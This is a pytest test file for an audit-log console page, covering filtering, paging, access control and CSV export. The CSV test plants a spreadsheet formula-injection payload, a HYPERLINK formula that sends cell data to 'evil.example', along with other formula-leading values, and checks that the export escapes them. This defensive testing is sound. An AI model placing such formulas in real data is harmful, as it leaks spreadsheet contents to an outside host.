"""Console → Audit → Events: the audit trail, newest first, filtered, paged and downloaded as CSV; for
owners and admins only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pytest

from switchboard.identity import audit
from switchboard.identity.audit import CSV_COLUMNS, AuditEntry
from switchboard.identity.oauth.models import RegistrationPolicy, StaticClientCreate
from switchboard.identity.oauth.server import AuthorizationServer
from switchboard.identity.roles import Role
from switchboard.identity.schemas import UserCreate
from switchboard.identity.tables import AuditEvent
from switchboard.platform.services import Services
from tests.support.actors import SETUP
from tests.support.web import DEMO_PASSWORD, Browserless
from tests.ui.conftest import Demo
from tests.ui.html import Page

HEADER = ["Time", "Actor", "Action", "Object", "Outcome", "Reason", "Client", "IP address"]


@pytest.fixture
def oauth(app_services: Services) -> AuthorizationServer:
    return app_services.identity.oauth


def table(html: str) -> list[list[str]]:
    """The events table: one list of cell texts per row, the header first."""
    rows: list[list[str]] = []
    for element in Page(html).elements:
        if element.tag == "tr":
            rows.append([])
        elif element.tag in {"td", "th"}:
            rows[-1].append(" ".join(element.text.split()))
    return rows


def pager(html: str) -> dict[str, str]:
    return {a.text: a.attrs["href"] for a in Page(html).all("a") if a.attrs.get("rel") in {"prev", "next"}}


async def test_events_are_listed_newest_first_with_every_detail(
    as_admin: Browserless, oauth: AuthorizationServer
) -> None:
    await oauth.clients.set_policy(RegistrationPolicy.OPEN, actor=SETUP)
    created = await oauth.clients.create_static(
        StaticClientCreate(name="Reporter", grant_types=["client_credentials"]), actor=SETUP
    )
    await oauth.audit.record(
        AuditEntry(
            action="token.refused",
            outcome="refused",
            subject="alice@example.com",
            client_id=created.client.client_id,
            client_name="Reporter",
            grant_type="client_credentials",
            scope="mcp:tools:*",
            reason="invalid_client: The client secret is wrong.",
        )
    )
    response = await as_admin.client.get("/console/audit")
    assert response.status_code == 200
    assert response.headers["cache-control"] == "no-store"
    rows = table(response.text)
    assert rows[0] == HEADER
    # Below them: the admin's sign-in, and the demo's users and groups as the seed made them.
    actions = [row[2].split()[0] for row in rows[1:5]]
    assert actions == ["token.refused", "client.created", "policy.changed", "auth.signed_in"]
    refused = rows[1]
    assert refused[0].endswith(" UTC")
    assert refused[1:] == [
        "—",
        "token.refused client_credentials · mcp:tools:*",
        "for alice@example.com",
        "refused",
        "invalid_client: The client secret is wrong.",
        f"Reporter {created.client.client_id}",
        "—",
    ]
    assert rows[2][1:4] == ["—", "client.created client_credentials", "Reporter MCP client"]
    assert rows[3][1:] == [
        "—",
        "policy.changed",
        "Client registration policy Settings",
        "ok",
        "registration open",
        "—",
        "—",
    ]
    assert rows[4][1:] == [
        "admin@example.com",
        "auth.signed_in",
        "admin@example.com User for admin@example.com",
        "ok",
        "—",
        "—",
        "127.0.0.1",
    ]
    assert pager(response.text) == {}
    current = [a.text for a in Page(response.text).all("a") if a.attrs.get("aria-current") == "page"]
    assert current == ["Audit", "Events"]


async def test_the_action_filter_shows_only_matching_events_and_stays_selected(
    as_admin: Browserless, oauth: AuthorizationServer
) -> None:
    for action in ("token.issued", "client.approved", "token.refused", "consent.granted"):
        await oauth.audit.record(AuditEntry(action=action, actor="admin@example.com"))
    tokens = await as_admin.client.get("/console/audit", params={"action": "token."})
    assert [row[2] for row in table(tokens.text)[1:]] == ["token.refused", "token.issued"]
    selected = [o.attrs["value"] for o in Page(tokens.text).all("option") if "selected" in o.attrs]
    assert selected == ["token."]
    one = await as_admin.client.get("/console/audit", params={"action": "consent.granted"})
    assert [row[2] for row in table(one.text)[1:]] == ["consent.granted"]
    none = await as_admin.client.get("/console/audit", params={"action": "client.deleted"})
    assert table(none.text) == []
    assert "No events match these filters." in Page(none.text).text

    made_up = await as_admin.client.get("/console/audit", params={"action": "%"})
    assert made_up.status_code == 422
    assert "Choose one of the listed kinds of events." in Page(made_up.text).text


async def test_older_and_newer_page_through_the_events_keeping_the_filter(
    as_admin: Browserless, oauth: AuthorizationServer
) -> None:
    for number in range(55):
        await oauth.audit.record(AuditEntry(action="token.issued", subject=f"user{number}@example.com"))
    await oauth.audit.record(AuditEntry(action="client.deleted", reason="never used"))

    first = await as_admin.client.get("/console/audit", params={"action": "token.issued"})
    subjects = [row[3] for row in table(first.text)[1:]]
    assert subjects == [f"for user{number}@example.com" for number in range(54, 4, -1)]
    assert pager(first.text) == {"Older": "/console/audit?offset=50&action=token.issued"}

    second = await as_admin.client.get(pager(first.text)["Older"])
    assert [row[3] for row in table(second.text)[1:]] == [
        f"for user{number}@example.com" for number in range(4, -1, -1)
    ]
    assert pager(second.text) == {"Newer": "/console/audit?offset=0&action=token.issued"}

    beyond = await as_admin.client.get("/console/audit", params={"offset": "500"})
    assert "No older events." in Page(beyond.text).text
    negative = await as_admin.client.get("/console/audit", params={"offset": "-1"})
    assert negative.status_code == 400


@pytest.mark.parametrize("role", [Role.MEMBER, Role.BUILDER])
async def test_members_and_builders_get_403_on_the_audit_page_its_csv_and_its_api(
    web: Browserless, demo: Demo, role: Role
) -> None:
    email = f"{role.value}@example.com"
    await demo.services.users.create(UserCreate(email=email, password=DEMO_PASSWORD, role=role), actor=SETUP)
    assert (await web.sign_in(email)).status_code == 303
    for path in ("/console/audit", "/console/audit.csv", "/api/v1/audit-events"):
        response = await web.client.get(path, follow_redirects=False)
        assert response.status_code == 403, path
        assert "Only owners and admins can open this." in response.text
        assert "auth.signed_in" not in response.text


async def test_someone_signed_out_is_sent_to_sign_in_and_a_script_without_a_token_is_refused(
    web: Browserless, demo: Demo
) -> None:
    for path in ("/console/audit", "/console/audit.csv"):
        response = await web.client.get(path, follow_redirects=False)
        assert (response.status_code, response.headers["location"]) == (
            303,
            f"/login?next={quote(path, safe='')}",
        )
    assert (await web.client.get("/api/v1/audit-events")).status_code == 401


async def record_at(at: datetime, **fields: str) -> None:
    """A record made at ``at`` (records are written with the time they are made; this sets it)."""
    await AuditEvent(at=at, **{"outcome": "ok", **fields}).save()


@pytest.mark.both_engines
async def test_the_filters_combine_actor_action_object_outcome_and_days(
    as_admin: Browserless, oauth: AuthorizationServer
) -> None:
    day = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
    await record_at(
        day - timedelta(days=2),
        action="user.created",
        actor="Carol@Example.com",
        object_type="user",
        object_id="u-1",
        object_name="dave@example.com",
    )
    await record_at(
        day,
        action="user.role_changed",
        actor="carol@example.com",
        object_type="user",
        object_id="u-1",
        object_name="dave@example.com",
        reason="member → admin",
    )
    await record_at(
        day,
        action="group.member_added",
        actor="carol@example.com",
        object_type="group",
        object_id="g-7",
        object_name="Sales_EU",
        subject="dave@example.com",
    )
    await record_at(
        day + timedelta(hours=11, minutes=59),
        action="user.deactivated",
        actor="erin@example.com",
        object_type="user",
        object_id="u-1",
        object_name="dave@example.com",
    )
    await record_at(
        day + timedelta(days=1),
        action="auth.sign_in_refused",
        outcome="refused",
        subject="dave@example.com",
        object_type="user",
        object_id="u-1",
        object_name="dave@example.com",
        reason="wrong password",
    )

    async def shown(**params: str) -> list[str]:
        response = await as_admin.client.get("/console/audit", params=params)
        assert response.status_code == 200, Page(response.text).text
        return [row[2] for row in table(response.text)[1:]]

    assert await shown(actor="CAROL", action="user.") == ["user.role_changed", "user.created"]
    assert await shown(object_type="user", object="DAVE@", since="2026-03-10", until="2026-03-10") == [
        "user.deactivated",
        "user.role_changed",
    ]
    assert await shown(object="g-7") == ["group.member_added"]
    assert await shown(object="sales_eu", actor="carol") == ["group.member_added"]
    assert await shown(outcome="refused", since="2026-03-11") == ["auth.sign_in_refused"]
    # What is typed matches only itself: "_" and "%" are no wildcards.
    assert await shown(object="a_e") == []
    assert await shown(actor="%") == []
    assert await shown(object="Sales_") == ["group.member_added"]

    response = await as_admin.client.get(
        "/console/audit", params={"actor": "carol", "action": "user.", "outcome": "ok"}
    )
    page = Page(response.text)
    assert page.by_id("filter-actor").attrs["value"] == "carol"
    chosen = {o.attrs["value"] for o in page.all("option") if "selected" in o.attrs}
    assert chosen == {"user.", "ok"}
    areas = [group.attrs["label"] for group in page.all("optgroup")]
    assert areas[:4] == ["Users", "Sign-ins", "Groups", "Admin API tokens"]
    assert {"MCP servers", "Recipes", "Tokens", "MCP clients", "Settings"} <= set(areas)
    download = next(a for a in page.all("a") if a.text == "Download CSV")
    assert download.attrs["href"] == "/console/audit.csv?actor=carol&action=user.&outcome=ok"


async def test_a_filter_that_makes_no_sense_is_shown_next_to_its_field(as_admin: Browserless) -> None:
    for params, field, message in [
        ({"since": "10/03/2026"}, "since", "Enter a date as YYYY-MM-DD."),
        ({"since": "2026-03-10", "until": "2026-03-09"}, "until", "The last day comes before the first."),
        ({"outcome": "maybe"}, "outcome", "Choose ok or refused."),
        ({"object_type": "spaceship"}, "object_type", "Choose one of the listed kinds of objects."),
    ]:
        response = await as_admin.client.get("/console/audit", params=params)
        assert response.status_code == 422, params
        page = Page(response.text)
        assert page.by_id(f"filter-{field}-error").text == message
        assert table(response.text) == []
        csv_download = await as_admin.client.get("/console/audit.csv", params=params)
        assert csv_download.status_code == 422, params


def csv_rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


async def test_the_csv_download_keeps_the_filters_and_a_spreadsheet_shows_formulas_as_text(
    as_admin: Browserless, oauth: AuthorizationServer
) -> None:
    name = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    created = await as_admin.submit("/console/groups", "/console/groups", {"name": name, "description": ""})
    assert created.status_code == 303
    for value in ("+1+2", "-3", "@SUM(A1)", "\tpadded", "\rreturned"):
        await oauth.audit.record(AuditEntry(action="group.changed", object_type="group", reason=value))

    response = await as_admin.client.get(
        "/console/audit.csv", params={"object_type": "group", "action": "group."}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith('attachment; filename="audit-')
    assert response.headers["cache-control"] == "no-store"
    rows = csv_rows(response.text)
    assert rows[0] == CSV_COLUMNS
    assert [row[2] for row in rows[1:7]] == ["group.changed"] * 5 + ["group.created"]
    assert {(row[2].split(".")[0], row[3]) for row in rows[1:]} == {("group", "group")}
    assert [row[7] for row in rows[1:6]] == ["'\rreturned", "'\tpadded", "'@SUM(A1)", "'-3", "'+1+2"]
    created_row = dict(zip(CSV_COLUMNS, rows[6], strict=True))
    assert created_row["object_name"] == "'" + name
    assert (created_row["actor"], created_row["object_type"], created_row["outcome"]) == (
        "admin@example.com",
        "group",
        "ok",
    )
    assert created_row["ip_address"] == "127.0.0.1"
    assert datetime.fromisoformat(created_row["time"]).tzinfo is not None
    # The demo seed's groups and users are not in a download filtered to this actor.
    mine = csv_rows((await as_admin.client.get("/console/audit.csv", params={"actor": "admin@"})).text)
    assert {row[2] for row in mine[1:]} == {"auth.signed_in", "group.created"}


async def test_a_download_past_the_limit_says_in_its_last_line_that_it_stops_there(
    as_admin: Browserless, oauth: AuthorizationServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit, "CSV_LIMIT", 3)
    monkeypatch.setattr(audit, "_CSV_BATCH", 2)
    for number in range(5):
        await oauth.audit.record(AuditEntry(action="token.issued", subject=f"user{number}@example.com"))
    rows = csv_rows((await as_admin.client.get("/console/audit.csv", params={"action": "token.issued"})).text)
    assert [row[8] for row in rows[1:4]] == ["user4@example.com", "user3@example.com", "user2@example.com"]
    assert rows[4] == ["Only the newest 3 matching events are in this file: narrow the filters."]
    assert len(rows) == 5

    exact = await as_admin.client.get("/console/audit.csv", params={"action": "token.issued", "actor": "x"})
    assert csv_rows(exact.text) == [CSV_COLUMNS]
